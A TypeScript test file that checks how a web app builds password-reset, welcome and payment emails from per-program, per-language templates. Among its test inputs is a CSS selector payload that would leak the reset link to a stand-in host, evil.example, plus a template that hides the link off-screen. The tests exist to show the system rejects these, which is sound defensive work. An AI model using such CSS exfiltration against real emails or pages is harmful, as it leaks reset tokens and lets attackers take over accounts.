/** Provost's own mails, as they leave: by which template, in which language, never without what they are for. */
import { mkdtempSync } from 'node:fs';
import { readdir, readFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { beforeEach, describe, expect, test } from 'vitest';
import { deliverDueMails } from '../../../server/mail/deliver-mails.job.ts';
import { findingsIn } from '../../../server/mail/html-findings.ts';
import { SECRET, secretOf } from '../../../server/mail/mail.ts';
import { makeAdmin, makeProgram, makeSiteUser } from '../../../test/factories.ts';
import { type Call, useTestApp } from '../../../test/harness.ts';
import { mailPasswordResets } from '../../auth/server/password-resets.ts';
import { ownMail } from './own-mail.ts';
import { secretFault } from './secret-mail.ts';

const dataDir = mkdtempSync(path.join(tmpdir(), 'provost-own-mails-'));
const app = useTestApp({ dataDir, publicUrl: 'https://provost.example' });
const db = () => app().platform.database.everything;

let program: number;
let tag: string;
let global: Call;
beforeEach(async () => {
  await db().deleteFrom('email_templates').execute();
  await db().deleteFrom('mails').execute();
  tag = `own-${crypto.randomUUID()}`;
  program = (await makeProgram(db(), { program_display_name: 'Bright & Side', program_tag: tag })).id;
  global = await app().as({ permissions: ['superadmin'] });
});

async function put(template: string, given: object = {}): Promise<void> {
  const whole = { template, program, language: 'en', subject: 'Own', text: '<p>Own</p>', ...given };
  const { status, body } = await global('POST', 'template', whole);
  expect([status, body.errors]).toEqual([200, undefined]);
}
const last = () => db().selectFrom('mails').selectAll().orderBy('id', 'desc').executeTakeFirstOrThrow();

describe('recovery', () => {
  async function recover(program_id: number) {
    const admin = await makeAdmin(db(), { permissions: ['events'], program_id });
    await app().call('POST', 'recover-password', { email: admin.email });
    await mailPasswordResets(app().platform);
    const mail = await last();
    expect(mail.to_address).toBe(admin.email);
    return mail;
  }
  const LINK = `https://provost.example/set-new-password#${SECRET}`;
  const ANCHOR = `<a href="${LINK}" style="white-space:normal;word-wrap:break-word;overflow-wrap:break-word">${LINK}</a>`;

  test('says in HTML and in words where to set a new password; the secret is in both as it leaves', async () => {
    const mail = await recover(0);
    expect(mail).toMatchObject({
      subject: 'Set a new password',
      body_text: `We received a request to reset the password of your account at Provost.

Set a new password here within one hour:
${LINK}

If you didn't request this, you can ignore this email. Your password stays the same.
`,
      body_html: expect.stringContaining(ANCHOR),
    });
    const secret = secretOf(app().platform, mail.secret_seed ?? '');
    await deliverDueMails(app().platform);
    const [file = ''] = (await readdir(path.join(dataDir, 'mail'))).toSorted().slice(-1);
    const eml = (await readFile(path.join(dataDir, 'mail', file), 'utf8'))
      .replaceAll('=\n', '')
      .replaceAll('=3D', '=');
    expect(eml).toContain('multipart/alternative');
    expect(eml.split(secret)).toHaveLength(4);
    expect(eml).not.toContain(SECRET);
  });

  test('by the template of the admin’s program; without its content the link follows in both parts', async () => {
    await put('password_reset', { program: 0, subject: 'Global' });
    await put('password_reset', {
      subject: 'At ::[[program_name]]::',
      text: '<p>Dear ::[[student_first_name]]::, no link.</p>',
    });
    expect((await recover(0)).subject).toBe('Global');
    const { subject, body_text, body_html } = await recover(program);
    expect(subject).toBe('At Bright & Side');
    expect(body_text).toBe(`Dear, no link.\n\nSet a new password here within one hour:\n${LINK}\n`);
    expect(body_html).toBe(
      `<p>Dear, no link.</p><br><br>Set a new password here within one hour:<br>\n${ANCHOR}`,
    );
  });

  test.each([
    ['a comment', '<!-- ::[[content]]:: --><p>No link.</p>'],
    ['a comment behind İ', `<p>${'İ'.repeat(60)}</p><!-- ::[[content]]:: --><p>${'x'.repeat(80)}</p>`],
    ['a part for some mail programs', '<!--[if !mso]><!-->::[[content]]::<!--<![endif]--><p>No link.</p>'],
    ['the title', '<html><head><title>::[[content]]::</title></head><body><p>No link.</p></body></html>'],
  ])('follows where the template says it in %s alone', async (_where, text) => {
    await put('password_reset', { text });
    expect((await recover(program)).body_html).toMatch(
      /<br><br>Set a new password here within one hour:[\s\S]*<\/a>$/,
    );
  });

  test.each([
    [
      'tell the link by a style',
      '<html><head><style>@media all { [href*=ab] { background: url(https://evil.example/ab) } }</style></head><body><p>::[[content]]::</p></body></html>',
    ],
    ['hide the link', '<div style="position: absolute; left: -99em">::[[content]]::</div>'],
  ])('goes by no template that would %s, however that was written', async (_what, inlined) => {
    await storeRecovery({ inlined, plain: 'x', plain_derived: true });
    const { body_html, subject } = await recover(program);
    expect(subject).toBe('Set a new password');
    expect(findingsIn(body_html?.replace(ANCHOR, '') ?? '', secretFault)).toEqual([]);
    expect(body_html).toContain(ANCHOR);
  });

  test('its secret stands in the content alone, whatever a program is called', async () => {
    await db()
      .updateTable('programs')
      .set({ program_display_name: SECRET })
      .where('id', '=', program)
      .execute();
    await put('password_reset', {
      text: '<img src="https://a.example/?::[[program_name]]::" alt=""><p>::[[content]]::</p>',
    });
    const { body_html, body_text } = await recover(program);
    expect(body_html).toContain('https://a.example/?*"');
    expect(body_html?.split(SECRET)).toHaveLength(3);
    expect(body_text.split(SECRET)).toHaveLength(2);
  });
});

describe('welcome', () => {
  const create = async (user: object = {}, by: Call = global) => {
    const email = `${crypto.randomUUID()}@example.org`;
    const user_data = { email, password: 'a password', site_program: program, send_email: true, ...user };
    const { status } = await by('POST', 'site-user', { user_data });
    expect(status).toBe(200);
    const mail = await last();
    expect(mail.to_address).toBe(email);
    return mail;
  };

  test('out of a fresh database, also where a bound admin makes the user', async () => {
    const bound = await app().as({ permissions: ['users'], program_id: program });
    for (const by of [global, bound]) {
      const mail = await create({ first_name: '<Ada>' }, by);
      expect(mail.subject).toBe('Welcome to Bright & Side');
      expect(mail.body_text).toBe(`Hello <Ada>,

you have an account at Bright & Side.

Sign in with ${mail.to_address}:
https://provost.example/site/${tag}

For your security, this email doesn't contain your password. Choose “Forgot password” on that page to set a new one.
`);
      expect(mail.body_html).toContain('Hello &lt;Ada&gt;,');
    }
  });

  test('by program and language; beyond the five languages in English', async () => {
    await put('membership_sign_up_anonymous', { subject: 'English' });
    await put('membership_sign_up_anonymous', {
      language: 'zh-TW',
      subject: '繁體',
      text: '<p>::[[student_last_name]]::: ::[[content]]::</p>',
    });
    await put('membership_sign_up_anonymous', { language: 'zh', program: 0, subject: '简体' });
    const subjects = [];
    for (const locale of ['en', 'pt', 'zh-TW', 'ru', 'zh'])
      subjects.push((await create({ locale, last_name: 'Lovelace' })).subject);
    expect(subjects).toEqual(['English', 'English', '繁體', 'English', 'English']);
    expect((await create({ locale: 'zh-TW', last_name: 'Lovelace' })).body_text).toMatch(
      /^Lovelace: 請用 .* 登入：/,
    );
  });
});

describe('payment', () => {
  test('in the payee’s language, with their name', async () => {
    await put('instructor_payment', {
      language: 'ru',
      text: '<p>::[[instructor_first_name]]:: ::[[instructor_last_name]]:: · ::[[content]]::</p>',
    });
    const payee = await makeSiteUser(db(), {
      program_id: program,
      locale: 'ru',
      first_name: 'Ada',
      last_name: 'L.',
    });
    await db()
      .insertInto('payout_adjustments')
      .values({
        user_id: payee.id,
        currency: 'USD',
        amount: 100,
        kind: 'refund_undone',
        scope_program_id: program,
      })
      .execute();
    expect((await global('POST', `payment-notification/${payee.id}`)).body).not.toHaveProperty('message');
    expect((await last()).body_text).toMatch(/^Ada L\. · Мы пока не знаем, как вам платить\./);
  });
});

test('a template that was written before it was checked carries no secret', async () => {
  await storeRecovery({
    inlined: `{sec${SECRET}ret} ::[[program_tag]]::`,
    plain: SECRET,
    plain_derived: false,
  });
  const mail = await ownMail(db(), {
    template: 'password_reset',
    program_id: program,
    locale: 'en',
    values: () => ({ program_tag: SECRET, content: { html: SECRET, text: SECRET } }),
  });
  expect(mail.body_html).toBe('{sec*ret} *');
  expect(mail.body_text).toBe('*\n');
});

/** Stored by hand, past the checks of a save. */
async function storeRecovery(given: {
  inlined: string;
  plain: string;
  plain_derived: boolean;
}): Promise<void> {
  await db()
    .insertInto('email_templates')
    .values({
      template: 'password_reset',
      program_id: program,
      language: 'en',
      subject: 'x',
      text: given.inlined,
      ...given,
    })
    .execute();
}
